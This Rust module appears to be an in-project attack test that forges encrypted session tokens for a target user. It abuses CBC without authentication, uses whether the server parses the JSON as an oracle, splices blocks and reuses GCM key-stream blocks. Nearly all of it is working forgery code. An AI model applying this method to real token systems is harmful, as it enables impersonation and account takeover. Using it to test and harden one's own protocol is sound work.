//! A forger who has tokens of their own and no secret.
//!
//! CBC has no tag, so a token can be assembled from blocks of others: each block then decrypts to `D(block) ^ the block
//! before`. The forger looks for a token in which a chosen block X is hidden in a text that is still read ([`Hole`]).
//! Whether it is read reveals something about `D(X) ^ R`, with a chosen R. A few thousand answers reveal `D(X)`. With it
//! the forger writes a token for any user, from the last block to the first.

use std::collections::{HashMap, HashSet};

use zim_protocol::ErrorCode;

use crate::{APP, NOW_S, VICTIM};

pub(crate) type Block = [u8; 16];

/// A block and its decryption, before the XOR with the previous block.
#[derive(Clone, Copy)]
pub(crate) struct Pair {
    pub(crate) block: Block,
    pub(crate) decrypted: Block,
}

fn xor(a: Block, b: Block) -> Block {
    std::array::from_fn(|index| a[index] ^ b[index])
}

/// A token that the forger submits.
#[derive(Clone, Debug)]
pub(crate) struct Question {
    pub(crate) expire: i64,
    pub(crate) iv: Block,
    pub(crate) blocks: Vec<Block>,
}

/// All that the forger sees of the result.
pub(crate) type Answer = Result<i64, (ErrorCode, &'static str)>;

/// Pseudorandom numbers, the same in every run.
pub(crate) struct Random(u64);

impl Random {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed)
    }

    fn number(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    pub(crate) fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.number() % u64::try_from(end).unwrap()).unwrap()
    }

    pub(crate) fn block(&mut self) -> Block {
        let halves = [self.number().to_le_bytes(), self.number().to_le_bytes()];
        *halves.as_flattened().first_chunk().unwrap()
    }

    fn of<T: Copy>(&mut self, list: &[T]) -> T {
        list[self.below(list.len())]
    }
}

pub(crate) struct Forger<'a> {
    ask: &'a dyn Fn(&Question) -> Answer,
    /// The number of questions that are left.
    pub(crate) budget: u32,
    random: Random,
    /// All answers so far.
    pub(crate) answers: HashSet<Answer>,
    /// The answer to nonsense.
    usual: Answer,
    /// The questions with another answer.
    pub(crate) hits: Vec<Question>,
}

impl<'a> Forger<'a> {
    pub(crate) fn new(ask: &'a dyn Fn(&Question) -> Answer, seed: u64, budget: u32) -> Self {
        let mut random = Random::new(seed);
        let nonsense = Question { expire: NOW_S + 3_600, iv: random.block(), blocks: vec![random.block()] };
        let usual = ask(&nonsense);
        Self { ask, budget, random, answers: HashSet::from([usual]), usual, hits: Vec::new() }
    }

    /// Returns whether the answer differs from the answer to nonsense, or `None` if no questions are left.
    fn is_hit(&mut self, question: Question) -> Option<bool> {
        self.budget = self.budget.checked_sub(1)?;
        let answer = (self.ask)(&question);
        self.answers.insert(answer);
        let is_hit = answer != self.usual;
        if is_hit {
            self.hits.push(question);
        }
        Some(is_hit)
    }

    /// Learns the decryption of `x`.
    fn learn(&mut self, x: Block, hole: &Hole) -> Option<Block> {
        loop {
            let filler = loop {
                let (r, filler) = (self.random.block(), self.random.number() % 100_000);
                if self.is_hit(hole.question(&[r, x], filler))? {
                    break filler;
                }
            };
            // The block after X is now known to be harmless.
            if let Some(decrypted) = self.narrow(x, hole, filler)? {
                return Some(decrypted);
            }
        }
    }

    /// Narrows the possible decryptions of `x` to one. The inner `None` means that a hit was misleading, for example
    /// because of a backslash before a quote.
    fn narrow(&mut self, x: Block, hole: &Hole, filler: u64) -> Option<Option<Block>> {
        let mut possible: [Vec<u8>; 16] = std::array::from_fn(|_| (0..=u8::MAX).collect());
        let (mut left, mut unsuccessful) = (16 * 256, 0);
        while left > 16 {
            let r = self.best(&possible);
            if self.is_hit(hole.question(&[r, x], filler))? {
                for (values, r) in possible.iter_mut().zip(r) {
                    values.retain(|value| !is_harmful(value ^ r));
                }
            }
            let before = std::mem::replace(&mut left, possible.iter().map(Vec::len).sum());
            unsuccessful = if left < before { 0 } else { unsuccessful + 1 };
            if unsuccessful > 1_000 || possible.iter().any(Vec::is_empty) {
                return Some(None);
            }
        }
        let decrypted = possible.map(|values| values[0]);
        // The result is right if X can be turned into a text that is read only if six bytes are right, at three places.
        for place in [0, 5, 10] {
            let mut is_right = false;
            for _ in 0..200 {
                let mut plain = text(&format!("{:016}", self.random.number() % 10_000_000_000_000_000));
                plain[place..place + 6].copy_from_slice(br#"","":""#);
                is_right = self.is_hit(hole.question(&[xor(decrypted, plain), x], filler))?;
                if is_right {
                    break;
                }
            }
            if !is_right {
                return Some(None);
            }
        }
        Some(Some(decrypted))
    }

    /// Chooses the next R. It reveals as much as possible if no byte of X is harmful, and that is likely enough.
    fn best(&mut self, possible: &[Vec<u8>; 16]) -> Block {
        let mut r = [0; 16];
        let mut risk = 0.0;
        let first = self.random.below(16);
        for place in (0..16).map(|place| (first + place) % 16) {
            let values = &possible[place];
            let risk_of = |r: u8| {
                let harmful = values.iter().filter(|value| is_harmful(**value ^ r)).count();
                f64::from(u32::try_from(harmful).unwrap()) / f64::from(u32::try_from(values.len()).unwrap())
            };
            // No backslash: together with the next byte it may be a valid escape.
            let telling = self.random.of(values) ^ self.random.of(b"\"\x01\x1f");
            let is_worth_it = values.len() > 1 && risk_of(telling) <= 0.5 && risk + risk_of(telling) <= 1.0;
            r[place] = if is_worth_it {
                telling
            } else {
                let some: [u8; 8] = *self.random.block().first_chunk().unwrap();
                some.into_iter().min_by(|a, b| risk_of(*a).total_cmp(&risk_of(*b))).unwrap()
            };
            risk += risk_of(r[place]);
        }
        r
    }

    /// Forges a token for the victim that ends in a known block. The old rules also read an array.
    pub(crate) fn forge(&mut self, known: Pair, hole: &Hole) -> Option<Question> {
        let expire = NOW_S + 2_000_000;
        let text = format!("[{APP},\"{VICTIM}\",0,{expire}]\x01");
        let [first, last] = *text.as_bytes().as_chunks().0 else { unreachable!() };
        let before = xor(known.decrypted, last);
        let iv = xor(self.learn(before, hole)?, first);
        Some(Question { expire, iv, blocks: vec![before, known.block] })
    }
}

/// Whether a byte ends a JSON string or is not allowed in one.
pub(crate) fn is_harmful(byte: u8) -> bool {
    byte < b' ' || byte == b'"' || byte == b'\\'
}

fn text(text: &str) -> Block {
    text.as_bytes().try_into().unwrap()
}

/// A text with room for blocks of any content: it opens a string before them, and closes it after them.
pub(crate) struct Hole {
    expire: i64,
    iv: Block,
    head: Vec<Block>,
    /// The known block, with a filler, in which the text continues.
    join: Pair,
    closing: fn(u64) -> String,
    rest: Vec<Block>,
}

impl Hole {
    fn question(&self, inside: &[Block], filler: u64) -> Question {
        let before = xor(self.join.decrypted, text(&(self.closing)(filler)));
        let blocks = [&self.head[..], inside, &[before, self.join.block], &self.rest].concat();
        Question { expire: self.expire, iv: self.iv, blocks }
    }
}

/// Makes holes from one token of the forger's own: in an unknown key, in a payload at the start, and in the payload at its
/// place. Also returns a known block.
pub(crate) fn holes_of_a_cbc_token(own: &Question, plain: &str) -> (Vec<Hole>, Pair) {
    let texts = plain.as_bytes().as_chunks::<16>().0;
    let known = |index: usize| {
        let before = if index == 0 { own.iv } else { own.blocks[index - 1] };
        Pair { block: own.blocks[index], decrypted: xor(texts[index], before) }
    };
    let first = known(0);
    let opened = |opening: &str| Hole {
        expire: own.expire,
        iv: xor(first.decrypted, text(opening)),
        head: vec![first.block],
        join: first,
        closing: |filler| format!(r#"","app_id":{filler:05}"#),
        rest: own.blocks[1..].to_vec(),
    };
    // The fourth block opens the payload; the fifth is inside.
    assert_eq!((&texts[3], &texts[4]), (b"d\":\"------------", &[b'-'; 16]));
    let in_place = Hole {
        expire: own.expire,
        iv: own.iv,
        head: own.blocks[..4].to_vec(),
        join: known(4),
        closing: |filler| format!("-----------{filler:05}"),
        rest: own.blocks[5..].to_vec(),
    };
    (vec![opened(r#"{"":"aaaaaaaaaaa"#), opened(r#"{"payload":"aaaa"#), in_place], first)
}

/// Returns pairs from a GCM token with a known text: its key stream is the encryption of the nonce and a counter.
pub(crate) fn pairs_of(nonce: [u8; 12], sealed: &[u8], plain: &str) -> Vec<Pair> {
    let blocks = plain.as_bytes().as_chunks().0.iter().zip(sealed.as_chunks().0);
    let pair = |(counter, (plain, sealed)): (u32, (&Block, &Block))| {
        let counted = [&nonce[..], &counter.to_be_bytes()].concat();
        Pair { block: xor(*plain, *sealed), decrypted: counted.try_into().unwrap() }
    };
    // The text after the user ID is less certain.
    (2..).zip(blocks).take(4).map(pair).collect()
}

/// Searches for a hole in a text that is assembled from pairs alone. Three of its blocks are random: one must end in a
/// quote and two be harmless, which happens once in 219,000 times.
pub(crate) fn hole_of_pairs(forger: &mut Forger<'_>, pairs: &[Pair]) -> Option<Hole> {
    loop {
        let [first, second, third, last] = [(); 4].map(|()| forger.random.of(pairs));
        let [expire, ctime] = [(); 2].map(|()| forger.random.number() % 10);
        let rest = vec![
            xor(second.decrypted, text(&format!(r#","expire":{expire},"":""#))),
            second.block,
            xor(third.decrypted, text(&format!(r#"","ctime":{ctime},"":""#))),
            third.block,
            xor(last.decrypted, text("\",\"user_id\":\"\"}\x01")),
            last.block,
        ];
        let iv = xor(first.decrypted, text(r#"{"app_id":1,"":""#));
        let blocks = [&[first.block][..], &rest].concat();
        let expire = i64::try_from(expire).unwrap();
        if forger.is_hit(Question { expire, iv, blocks })? {
            let closing = |filler| format!(r#"","":"{filler:010}"#);
            return Some(Hole { expire, iv, head: vec![first.block], join: first, closing, rest });
        }
    }
}

/// A token with its known text.
pub(crate) struct Known {
    pub(crate) token: Question,
    pub(crate) plain: String,
}

impl Known {
    /// Returns a block with its decryption, unless it is the padding.
    fn pair(&self, index: usize) -> Option<Pair> {
        let plain = self.plain.as_bytes().as_chunks().0.get(index)?;
        let before = if index == 0 { self.token.iv } else { self.token.blocks[index - 1] };
        Some(Pair { block: self.token.blocks[index], decrypted: xor(*plain, before) })
    }
}

/// Returns the tokens, with their texts, that begin like one of `heads` and end like one of `tails`, cut anywhere, and
/// whose block at the join is printable. No question is needed: the text of a block after another is the XOR of known
/// values.
pub(crate) fn splices(heads: &[Known], tails: &[Known]) -> Vec<Known> {
    // If the highest bits of two blocks differ, their XOR is not ASCII. So only blocks with equal ones are paired.
    let highest = |block: &Block| u128::from_be_bytes(*block) & 0x8080_8080_8080_8080_8080_8080_8080_8080;
    let mut lasts: HashMap<u128, Vec<(&Known, usize)>> = HashMap::new();
    for head in heads {
        for (to, last) in head.token.blocks.iter().enumerate().take(head.plain.len() / 16) {
            lasts.entry(highest(last)).or_default().push((head, to));
        }
    }
    let mut found = Vec::new();
    for tail in tails {
        for (from, pair) in (0..).map_while(|from| Some((from, tail.pair(from)?))) {
            for (head, to) in lasts.get(&highest(&pair.decrypted)).into_iter().flatten() {
                let join = xor(pair.decrypted, head.token.blocks[*to]);
                if join.iter().all(|byte| matches!(byte, b' '..=b'~')) {
                    let join = str::from_utf8(&join).unwrap();
                    let plain = [&head.plain[..(to + 1) * 16], join, &tail.plain[(from + 1) * 16..]].concat();
                    let blocks = [&head.token.blocks[..=*to], &tail.token.blocks[from..]].concat();
                    found.push(Known { token: Question { blocks, iv: head.token.iv, ..tail.token }, plain });
                }
            }
        }
    }
    found
}
